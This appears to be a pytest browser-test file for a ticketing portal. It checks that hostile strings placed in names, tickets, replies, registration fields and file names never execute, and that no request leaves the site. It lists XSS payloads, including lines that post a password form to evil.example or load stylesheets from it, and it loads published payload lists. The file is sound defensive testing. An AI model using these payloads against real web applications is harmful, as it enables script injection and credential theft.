"""X01, C02: hostile strings in every field a customer has, hostile styles of a tenant: Chromium runs nothing."""

from __future__ import annotations

import json
import re
import time

import pytest

from support.needs import LONG

OWN = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'\"><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)'>",
    "<a href=javascript:alert(1)>x</a> javascript:alert(1)", "{{ 7*7 }}{% raw %}{{ ''.__class__ }}",
    "<div hx-get=/sign-out hx-trigger=load>x</div>", "<form action=https://evil.example><input name=password>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<img src=https://evil.example/x.png><video poster=//evil.example/a><object data=//evil.example>",
    "https://a.example/\"onmouseover=\"alert(1)//\" style=\"x", "\u202e<b onclick=alert(1)>\u2066%(name)s %s {0}",
    "%(num)s %(name)s ${alert(1)} `alert(1)`", "x' onfocus='alert(1)' autofocus='",
)
FOREIGN = """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a =>
    a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc' || a.name === 'autofocus' && a.value
    || ['href', 'src', 'action', 'formaction', 'data', 'poster', 'xlink:href', 'hx-get', 'hx-post',
        'data-hx-get', 'data-hx-post'].includes(a.name)
    && !/^(https?:|mailto:|[/?#]|data:|$)/i.test(a.value)).map(a => e.tagName + ' ' + a.name + '=' + a.value))
  .concat([...document.querySelectorAll(`iframe, object, embed, base, meta[http-equiv], style, math, marquee,
                                        video,
    audio, img[src*="//"], form[action]:not([action^="/"]), script:not([src^="/static/"]),
    link[rel=stylesheet]:not([href^="/"]), [hx-get="/sign-out"],
    [data-hx-get="/sign-out"]`)].map(e => e.outerHTML.slice(0, 120)))"""
HOST = "strange.localhost"
ADMIN, AGENT, CUSTOMER = "admin@strange.example", "agent@strange.example", "p0@strange.example"


def name(payload):
    return "".join(char for char in payload if char.isprintable())[:180]


def quoted(payload):
    """Write a file's name into a multipart header so that it arrives as it is."""
    return name(payload).replace("\\", "\\\\").replace('"', '\\"') + ".txt"


def store(served, payloads):
    """Fill every text field a customer has with each payload; each ticket is by somebody of that name."""
    taken = dict.fromkeys(("name", "ticket", "reply"), 0)
    first = served.visitor(CUSTOMER, HOST)
    for number, payload in enumerate(payloads):
        own = served.visitor(f"p{number}@strange.example", HOST)
        details = own.post("/account", {"name": name(payload), "motto": payload})
        asked = own.post("/tickets/new", {"category": "other", "subject": name(payload), "body": payload,
                                          "serial": name(payload)})
        place = asked.location if number == 0 else place  # noqa: F821 - the first goes round first
        told = first.post(f"{place}/reply", {"body": payload},
                          {"attachments": (quoted(payload), b"x", "text/plain")})
        for key, answer in zip(taken, (details, asked, told), strict=True):
            assert answer.status in (303, 422), (payload, answer.status)
            taken[key] += answer.status == 303
    return place, taken


def verifying(served):
    """Find the links of letters that ask somebody new whether it is them."""
    letters = (served.portal.folder.path / "var" / "mail" / "new").glob("*")
    texts = [letter.read_text(errors="replace").replace("=\n", "") for letter in letters]
    return {link for text in texts for link in re.findall(r"/verify/[\w-]{20,}", text)}


def register(served, payloads):
    """Register with hostile words, follow the letter's link, and give the number of accounts made."""
    guest, made = served.visitor(host=HOST), 0
    before = verifying(served)
    for number, payload in enumerate(payloads):
        address = f"new{number}of{len(payloads)}-{len(before)}@strange.example"
        form = {"email": address, "name": name(payload), "company": name(payload),
                "motto": payload, "password": "quiet rivers run deep"}
        assert guest.post("/register", form).status == 303
    end, links = time.monotonic() + 20, set()
    while len(links) < len(payloads) and time.monotonic() < end:
        time.sleep(0.2)
        links = verifying(served) - before
    for link in links:
        made += guest.get(link).status == 200 and guest.post(link, {}).status == 303
    return made


def look(served, tabs, address, paths, *, further=0, scripts=True):
    """Open pages in Chromium as somebody, and the next pages of each list; give what should not be there."""
    page, found = served.page(tabs, address, HOST), []
    page.on("dialog", lambda dialog: (found.append(("dialog", dialog.message)), dialog.dismiss()))
    for path in paths:
        answer = page.goto(served.portal.folder.origin(HOST) + path, wait_until="load")
        assert answer.status in (200, 404), (path, answer.status)
        for _turn in range(further + 1):
            found += [(path, one) for one in page.evaluate(FOREIGN)]
            older = page.locator("a[rel=next]")
            if not older.count():
                break
            with page.expect_response(lambda response: "before=" in response.url or "after=" in response.url):
                older.first.click()
            page.wait_for_load_state()
    assert not page.watch.faults
    assert not [one for one in page.watch.requests if HOST not in one and not one.startswith("data:")]
    return found


def views(place, payloads):
    """Name the pages of each role."""
    number = int(place.rpartition("-")[2].rpartition("/")[2])
    some = [place.replace(str(number), str(number + step)) for step in range(1, len(payloads), 1 if LONG else 9)]
    words = [f"/search?q={one}" for one in ("script", "alert", "%3Cscript%3Ealert(1)%3C/script%3E", "onerror")]
    return {CUSTOMER: ["/", "/tickets", place, *some, *words[:2],
                       "/tickets?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
                       "/account", "/account/company/strange", "/account/security", "/notifications"],
            AGENT: ["/", "/inbox", place, *some, *words, "/people", "/companies/strange", "/notifications"],
            ADMIN: ["/", "/inbox?q=%3Csvg%20onload=alert(1)%3E", place, *words[:1], "/people?q=new", "/audit",
                    "/settings/mail/waiting",
                    "/people/explain?person=p0@strange.example&permission=tickets.view"]}


def attack(served, tabs, payloads, least):
    place, taken = store(served, payloads)
    assert min(taken.values()) >= least, taken
    assert register(served, payloads[:2]) == 2
    found = {who: look(served, tabs, who, paths, further=9 if LONG else 0)
             for who, paths in views(place, payloads).items()}
    assert not any(found.values()), found
    seen = served.visitor(AGENT, HOST).get(place).text
    assert seen.count("&lt;script") >= 2
    assert "<script>alert" not in seen


@pytest.mark.browser
def test_what_customers_write_runs_nowhere(served, tabs):
    attack(served, tabs, OWN, len(OWN) - 2)


@pytest.mark.browser
@pytest.mark.slow
def test_a_hundred_published_strings_run_nowhere(served, tabs, data_folder):
    folder = data_folder("hostile-strings")
    lines = (folder / "payloadbox" / "xss.txt").read_text().splitlines()
    naughty = [one for one in json.loads((folder / "blns" / "blns.json").read_text()) if "<" in one]
    chosen = [line for line in lines[::18] if line.strip()][:85] + naughty[::3][:45]
    assert len(chosen) >= 110
    attack(served, tabs, chosen, 100)


def test_the_browser_would_have_noticed(page):
    """The look into the page finds what this file is about, and so does the watch."""
    page.set_content("<p onclick='x()'>a</p><a href='javascript:x()'>b</a><iframe></iframe><b style='top:0'>c</b>")
    assert len(page.evaluate(FOREIGN)) == 4


@pytest.mark.browser
@pytest.mark.parametrize("scripts", [True, False], ids=["scripts on", "scripts off"])
def test_a_thieving_style_sheet_tells_nobody(served, tabs, scripts):
    """C02: selectors on values, imports, fonts, image sets: no request leaves, and the harmless rule holds."""
    host = "globex.localhost"
    page = served.page(tabs, scripts=scripts)
    origin = served.portal.folder.origin(host)
    page.goto(f"{origin}/sign-in")
    page.fill("[name=email]", "abc@example.com")
    page.fill("[name=password]", "abc")
    if scripts:
        assert page.locator("h1").first.evaluate("e => getComputedStyle(e).outlineWidth") == "3px"
    inner = served.page(tabs, "omar@cairo.example", host, scripts=scripts)
    for path in ("/", "/account", "/account/security", "/account/password", "/tickets", "/tickets/new"):
        inner.goto(origin + path)
        for kind in ("text", "email", "password"):
            for one in inner.locator(f"main input[type={kind}]:visible").all()[:2]:
                one.fill("a1")
    for watch in (page.watch, inner.watch):
        assert not watch.faults
        assert not [one for one in watch.requests if not one.startswith((origin, "data:"))]
